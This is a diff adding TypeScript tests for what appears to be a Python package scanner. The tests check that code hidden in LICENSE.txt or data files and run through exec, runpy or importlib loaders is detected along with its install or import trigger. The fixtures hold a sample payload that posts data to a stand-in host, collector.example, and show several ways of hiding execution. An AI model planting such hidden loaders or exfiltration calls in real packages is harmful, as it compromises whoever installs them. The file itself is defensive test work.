@@ -1,0 +1,65 @@
+// Code a package runs from a member that is not named like Python (exec(open("LICENSE.txt").read()), runpy,
+// importlib loaders) is analysed as Python, with the trigger of the code that runs it.
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { TargetReport } from '../../src/model/result.ts';
+import { scanJson } from './run-cli.ts';
+
+const PAYLOAD = 'import requests\nrequests.post("https://collector.example/in", data=b"x")\n';
+let dir: string;
+
+async function scanPackage(name: string, files: Record<string, string>): Promise<TargetReport> {
+  for (const [path, content] of Object.entries(files)) {
+    mkdirSync(join(dir, name, path, '..'), { recursive: true });
+    writeFileSync(join(dir, name, path), content);
+  }
+  const { result } = await scanJson(name, dir);
+  return result.targets[0];
+}
+
+const callIn = (target: TargetReport, path: string) => target.files.find((file) => file.path === path)?.findings.find((f) => f.rule === 'egress-network-call');
+
+describe('members run as Python whatever their name', () => {
+  before(() => {
+    dir = mkdtempSync(join(tmpdir(), 'pyguard-exec-member-'));
+  });
+  after(() => rmSync(dir, { recursive: true, force: true }));
+
+  test('setup.py exec(open("LICENSE.txt").read()): the licence file is analysed as install-time code', async () => {
+    const target = await scanPackage('license', { 'setup.py': 'from setuptools import setup\nexec(open("LICENSE.txt").read())\nsetup(name="x")\n', 'LICENSE.txt': PAYLOAD });
+    const run = target.files.find((file) => file.path === 'setup.py')?.findings.find((f) => f.rule === 'file-executed-as-code');
+    assert.equal(run?.path, 'LICENSE.txt');
+    assert.equal(run?.trigger, 'install');
+    const call = callIn(target, 'LICENSE.txt');
+    assert.equal(call?.destination?.host, 'collector.example');
+    assert.equal(call?.trigger, 'install');
+    assert.equal(target.files.find((file) => file.path === 'LICENSE.txt')?.kind, 'python');
+  });
+
+  test('through a name, a path built from __file__, compile(), runpy, importlib loaders and package resources', async () => {
+    const module = [
+      'import os, runpy, importlib.util',
+      'HERE = os.path.dirname(__file__)',
+      'f = open(os.path.join(HERE, "notes.dat"))',
+      'exec(compile(f.read(), "notes", "exec"))',
+      'runpy.run_path(os.path.join(HERE, "data", "run.cfg"))',
+      'spec = importlib.util.spec_from_file_location("m", HERE + "/assets/loader.bin")',
+      'import pkgutil, importlib.resources',
+      'exec(pkgutil.get_data(__name__, "blob.txt"))',
+      'exec(importlib.resources.files(__name__).joinpath("more.txt").read_text())',
+      '',
+    ].join('\n');
+    const target = await scanPackage('module', { 'pkg/__init__.py': module, 'pkg/notes.dat': PAYLOAD, 'pkg/data/run.cfg': PAYLOAD, 'pkg/assets/loader.bin': PAYLOAD, 'pkg/blob.txt': PAYLOAD, 'pkg/more.txt': PAYLOAD });
+    for (const path of ['pkg/notes.dat', 'pkg/data/run.cfg', 'pkg/assets/loader.bin', 'pkg/blob.txt', 'pkg/more.txt']) {
+      assert.equal(callIn(target, path)?.trigger, 'import', path);
+    }
+  });
+
+  test('reading a data file without running it is not reported', async () => {
+    const target = await scanPackage('reads', { 'pkg/__init__.py': 'DATA = open("pkg/table.txt").read()\n', 'pkg/table.txt': PAYLOAD });
+    assert.deepEqual(target.files.flatMap((file) => file.findings.map((f) => f.rule)), []);
+  });
+});
